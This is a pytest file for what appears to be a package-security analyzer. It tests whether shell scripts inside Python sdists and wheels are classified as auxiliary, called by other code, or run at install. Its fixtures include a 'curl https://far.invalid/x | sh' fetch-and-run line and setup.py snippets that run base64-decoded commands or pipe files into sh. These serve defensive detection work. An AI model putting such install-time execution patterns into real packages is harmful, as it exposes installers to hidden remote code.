"""Shell scripts of a Python package that nothing in it starts."""

from collections.abc import Callable

import pytest

from pratique.analysis.context import Context
from pratique.analysis.job import Part
from pratique.analysis.reading import open_part, read_contents
from pratique.archive import DEFAULT_LIMITS
from pratique.core.names import Ecosystem
from pratique.core.release import ArtifactKind
from tests.builders import tgz, wheel

SCRIPT = "#!/bin/sh\ncurl https://far.invalid/x | sh\n"
PLAIN = "from setuptools import setup\nsetup(name='acme')\n"
INFO = "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n"


def contexts(data: bytes, filename: str, kind: ArtifactKind) -> Callable[[str], Context]:
    part = Part(ecosystem=Ecosystem.PYPI, ref=None, filename=filename, kind=kind, sha256="")
    return read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None).context


def when(path: str = "tools/prepare.sh", **files: str) -> Context:
    """The context of a file of a source distribution; `acme__a_dot_py` is `acme/a.py`."""
    named = {name.replace("__", "/").replace("_dot_", "."): text for name, text in files.items()}
    whole = {
        "PKG-INFO": INFO,
        "setup.py": PLAIN,
        "acme/core.py": "x = 1\n",
        "tools/prepare.sh": SCRIPT,
        **named,
    }
    return contexts(tgz(whole, root="acme-1.0"), "acme-1.0.tar.gz", ArtifactKind.SDIST)(path)


@pytest.mark.parametrize(
    "files",
    [
        {},
        {
            "MANIFEST_dot_in": "include tools/prepare.sh\n",
            "acme_dot_egg-info__SOURCES_dot_txt": "tools/prepare.sh\n",
        },
        {"README_dot_md": "Run tools/prepare.sh first.\n"},
        {"acme__git_dot_py": "import subprocess\nsubprocess.run(['git', 'log', name])\n"},
        {"other_dot_sh": "./tools/prepare.sh\n"},
    ],
)
def test_a_script_that_nothing_starts_is_auxiliary(files: dict[str, str]) -> None:
    assert Context.AUXILIARY is when(**files)


@pytest.mark.parametrize(
    "setup",
    [
        "import glob, os\nfor f in glob.glob('tools/*'): os.system('sh ' + f)\n",
        "import subprocess, base64\nsubprocess.run(base64.b64decode(x))\n",
        "import os\nos.system('make -C tools')\n",
        "import os\nos.system('cat tools/*|sh')\n",
        "import os, sys\nos.system('cat ' + sys.argv[1])\n",
        "n = 'tools/prepare.sh'\n",
        "import glob\nsetup(scripts=glob.glob('tools/*'))\n",
        "exec(open('tools/x').read())\n",
    ],
)
def test_one_that_the_build_names_or_may_start_is_not(setup: str) -> None:
    assert when(setup_dot_py=PLAIN + setup) in {Context.CALLED, Context.INSTALL}


def test_one_that_the_build_starts_runs_at_install() -> None:
    assert Context.INSTALL is when(setup_dot_py=PLAIN + "import os\nos.system('sh tools/prepare.sh')\n")


@pytest.mark.parametrize(
    "files",
    [
        {"acme__run_dot_py": "import subprocess\ndef f(n): subprocess.run(['sh', n])\n"},
        {"acme__run_dot_py": "NAME = 'prepare.sh'\n"},
        {"acme__core_dot_so": "\x7fELF\0\0system\0tools/prepare.sh\0"},
        {"CMakeLists_dot_txt": "file(GLOB all tools/*)\n"},
        {"acme__run_dot_py": "NAME = 'first.sh'\n", "first_dot_sh": "./tools/prepare.sh\n"},
    ],
)
def test_one_that_other_code_names_or_may_start_is_not(files: dict[str, str]) -> None:
    assert Context.CALLED is when(**files)


@pytest.mark.parametrize(
    ("path", "context"),
    [("acme/a.sh", Context.AUXILIARY), ("acme-1.0.data/scripts/a.sh", Context.CALLED)],
)
def test_a_wheel_s_scripts_are_programs_of_the_machine(path: str, context: Context) -> None:
    data = wheel({"acme/core.py": "x = 1\n", path: SCRIPT, "acme-1.0.dist-info/METADATA": INFO})
    assert context is contexts(data, "acme-1.0-py3-none-any.whl", ArtifactKind.WHEEL)(path)
